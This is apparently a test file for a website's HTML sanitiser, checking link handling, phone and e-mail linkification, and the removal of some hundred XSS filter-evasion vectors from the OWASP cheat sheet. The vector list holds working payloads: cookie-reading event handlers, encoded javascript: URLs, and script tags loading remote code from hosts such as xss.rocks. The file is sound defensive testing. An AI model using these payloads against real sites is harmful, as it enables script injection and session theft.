import { Parser } from "htmlparser2";
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitiseHtml } from "../safety/sanitise-html";
import { checkUrl } from "../safety/urls";

/** Vectors from the OWASP XSS Filter Evasion Cheat Sheet (and the payloads seen on the site in issue 9). */
const OWASP_VECTORS = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<IMG SRC="livescript:[code]">`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  `<XSS STYLE="xss:expression(alert('XSS'))">`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=\`>\` SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="http://66.102.7.147/">XSS</A>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<A HREF="JaVaScRiPt:alert(1)">XSS</A>`,
  `<A HREF="  javascript:alert(1)">XSS</A>`,
  `<A HREF="java&#x0A;script:alert(1)">XSS</A>`,
  `<A HREF="&#x6A;avascript:alert(1)">XSS</A>`,
  `<A HREF="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">XSS</A>`,
  `<A HREF="//evil.example/">XSS</A>`,
  `<A HREF="/\\evil.example/">XSS</A>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<details open ontoggle=alert(1)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<form><button formaction=javascript:alert(1)>X</button></form>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<a href="https://ok.example" onclick="alert(1)" style="background:url(javascript:alert(1))">ok</a>`,
];

const allowedTags = new Set<string>(ALLOWED_TAGS);

/** Parses the output like a browser tokeniser would and lists everything that is not plainly harmless. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (!allowedTags.has(name)) found.push(`<${name}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (!(ALLOWED_ATTRIBUTES[name] ?? []).includes(attribute)) found.push(`${name}[${attribute}]`);
          if ((attribute === "href" || attribute === "src") && !checkUrl(value, "link").ok)
            found.push(`${name}[${attribute}=${value}]`);
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

describe("sanitiseHtml against the OWASP filter-evasion vectors", () => {
  it("has at least 50 vectors, and the check sees them as dangerous before sanitising", () => {
    expect(OWASP_VECTORS.length).toBeGreaterThanOrEqual(50);
    expect(dangers(`<img src=x onerror=alert(1)>`)).toEqual(["img[src=x]", "img[onerror]"]);
    expect(dangers(`<a href="&#x6A;avascript:alert(1)">x</a>`)).toEqual(["a[href=javascript:alert(1)]"]);
    expect(OWASP_VECTORS.filter((vector) => dangers(vector).length > 0).length).toBeGreaterThanOrEqual(70);
  });

  it.each(OWASP_VECTORS.map((vector, index) => [index, vector]))("vector %i leaves nothing active", (_, vector) => {
    const { html } = sanitiseHtml(`<p>before</p>${vector}<p>after</p>`);
    expect(dangers(html)).toEqual([]);
    expect(html).not.toMatch(/<\s*(script|style|iframe|object|embed|svg|math|meta|link|base|form|input|button)/i);
  });

  it("reports what it removed, once per kind, with a count", () => {
    const { removed } = sanitiseHtml(
      `<p onclick="x()">a</p><script>1</script><script>2</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">l</a>`,
    );
    expect(removed).toEqual([
      "'onclick' event handler on <p>",
      "<script> element ×2",
      "'onerror' event handler on <img>",
      expect.stringMatching(/^image with unsafe source 'x'/),
      expect.stringMatching(/^unsafe link 'javascript:alert\(1\)' \(the scheme 'javascript:' is not allowed\)/),
    ]);
  });

  it("turns a pasted h1 into h2, still reporting its attributes", () => {
    expect(sanitiseHtml(`<h1 onclick="x()">T</h1>`)).toEqual({
      html: "<h2>T</h2>",
      removed: ["'onclick' event handler on <h2>"],
      brokenLinks: [],
    });
  });

  it("reports nothing for the kind of HTML the demo content holds", () => {
    const demo = `<h2>Title</h2><p>Text with <strong>bold</strong>, <em>em</em> and <a href="https://example.md/x">a link</a>.</p><ul><li>one</li></ul><ol start="2"><li>two</li></ol><blockquote><p>q</p></blockquote><table><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">d</td></tr></tbody></table><figure><img src="https://cms.example/media/a.jpg" alt="a" width="10" height="10"><figcaption>c</figcaption></figure><hr><br>`;
    const result = sanitiseHtml(demo);
    expect(result.removed).toEqual([]);
    expect(result.html).toContain('<ol start="2">');
    expect(result.html).toContain('<th scope="col">');
    expect(result.html).toContain('<img src="https://cms.example/media/a.jpg" alt="a" width="10" height="10" />');
  });
});

describe("links inside content", () => {
  const options = {
    siteOrigin: "https://termofort.md",
    resolveLink: (pathname: string) =>
      pathname === "/ru/okna"
        ? { path: "/ferestre" }
        : pathname === "/gone"
          ? ({ broken: true } as const)
          : pathname === "/media/a.pdf"
            ? undefined
            : { path: pathname },
  };

  it("gives external links rel=noopener noreferrer and keeps only target=_blank", () => {
    const { html } = sanitiseHtml(
      `<a href="https://other.example/" rel="opener">x</a><a href="https://other.example/" target="_blank">y</a><a href="https://other.example/" target="_parent">z</a>`,
      options,
    );
    expect(html).toBe(
      `<a href="https://other.example/" rel="noopener noreferrer">x</a><a href="https://other.example/" target="_blank" rel="noopener noreferrer">y</a><a href="https://other.example/" rel="noopener noreferrer">z</a>`,
    );
  });

  it("rewrites internal links (relative or on the site's origin) to the current URL, keeping query and hash", () => {
    const { html, brokenLinks } = sanitiseHtml(
      `<a href="/ru/okna?x=1#top">a</a><a href="https://termofort.md/ru/okna">b</a><a href="/media/a.pdf">c</a>`,
      options,
    );
    expect(html).toBe(`<a href="/ferestre?x=1#top">a</a><a href="/ferestre">b</a><a href="/media/a.pdf">c</a>`);
    expect(brokenLinks).toEqual([]);
  });

  it("lists links to pages that do not exist", () => {
    const { html, brokenLinks } = sanitiseHtml(`<a href="/gone#x">a</a>`, options);
    expect(html).toBe(`<a href="/gone#x">a</a>`);
    expect(brokenLinks).toEqual(["/gone#x"]);
  });

  it("drops images from hosts that are not allowed, and says so", () => {
    const { html, removed } = sanitiseHtml(`<p><img src="https://tracker.example/p.gif" alt=""></p>`, {
      imageAllowed: (url) => url.startsWith("https://cms.example/"),
    });
    expect(html).toBe("<p></p>");
    expect(removed).toEqual(["image from a host that is not allowed ('https://tracker.example/p.gif')"]);
  });
});

/** The href of every link, as a browser reads them. */
function hrefs(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (name === "a" && attributes.href !== undefined) found.push(attributes.href);
      },
    },
    { decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

describe("phone numbers and e-mail addresses in the text", () => {
  it("become tel:/mailto: links, dialled in full whatever the writing", () => {
    const { html, removed } = sanitiseHtml(
      `<p>Sunați: 069 123 456, +373 22 12-34-56, (022) 123 456, 00373 79 654 321 sau scrieți la office@termofort.md.</p>`,
    );
    expect(removed).toEqual([]);
    expect(html).toBe(
      `<p>Sunați: <a href="tel:+37369123456">069 123 456</a>, <a href="tel:+37322123456">+373 22 12-34-56</a>, ` +
        `<a href="tel:+37322123456">(022) 123 456</a>, <a href="tel:+37379654321">00373 79 654 321</a> sau scrieți la ` +
        `<a href="mailto:office@termofort.md">office@termofort.md</a>.</p>`,
    );
  });

  it("reads a number written with entities (&nbsp;) as one number", () => {
    expect(sanitiseHtml(`<li>Tel.&nbsp;069&nbsp;123&nbsp;456</li>`).html).toBe(
      `<li>Tel.\u00a0<a href="tel:+37369123456">069\u00a0123\u00a0456</a></li>`,
    );
  });

  it("leaves dates, years, prices, codes, URLs and text in links and code as they are", () => {
    const text = `<p>2019-2024, 01.02.2023, 1 250 000 lei, 123456789, 4 x 1400 mm, https://x.md/069123456?id=069123456</p><p><a href="tel:+37369123456">069 <b>123</b> 456</a> <code>069123456 a@b.md</code></p>`;
    expect(sanitiseHtml(text).html).toBe(text);
  });

  it("cannot be made to write markup: the address is rebuilt from digits or a strict pattern, the text stays escaped", () => {
    const hostile = [
      `<p>a@b.md"onmouseover="alert(1)" 069123456"><script>alert(1)</script></p>`,
      `<p>069 123 456<img src=x onerror=alert(1)> x@y.md&lt;script&gt;alert(1)&lt;/script&gt;</p>`,
      `<p>&lt;a href="javascript:alert(1)"&gt;069 123 456&lt;/a&gt;</p>`,
      `<p>javascript:alert(1)//069123456 <a href="javascript:alert(1)">069 123 456</a></p>`,
      `<p>x@y.md?subject=%0Abcc:evil@z.md 069&#x3C;script&#x3E;123456</p>`,
      `<textarea>069123456</textarea><style>a@b.md</style><svg><a href="x">069123456</a></svg>`,
      ...OWASP_VECTORS.map((vector) => `<p>069 123 456 ${vector} office@termofort.md</p>`),
    ];
    for (const input of hostile) {
      const { html } = sanitiseHtml(input);
      expect(dangers(html)).toEqual([]);
      expect(html).not.toMatch(/<\s*(script|style|iframe|object|embed|svg|math|meta|link|base|form|input|button)/i);
      for (const href of hrefs(html))
        expect(href).toMatch(/^(tel:\+\d{8,15}|mailto:[A-Za-z0-9._+-]+@[A-Za-z0-9.-]+|https?:\/\/[^"]*|\/[^"]*)$/);
    }
    expect(sanitiseHtml(hostile[0]!).html).toBe(
      `<p><a href="mailto:a@b.md">a@b.md</a>"onmouseover="alert(1)" <a href="tel:+37369123456">069123456</a>"&gt;</p>`,
    );
    expect(sanitiseHtml(hostile[2]!).html).toBe(
      `<p>&lt;a href="javascript:alert(1)"&gt;<a href="tel:+37369123456">069 123 456</a>&lt;/a&gt;</p>`,
    );
  });
});
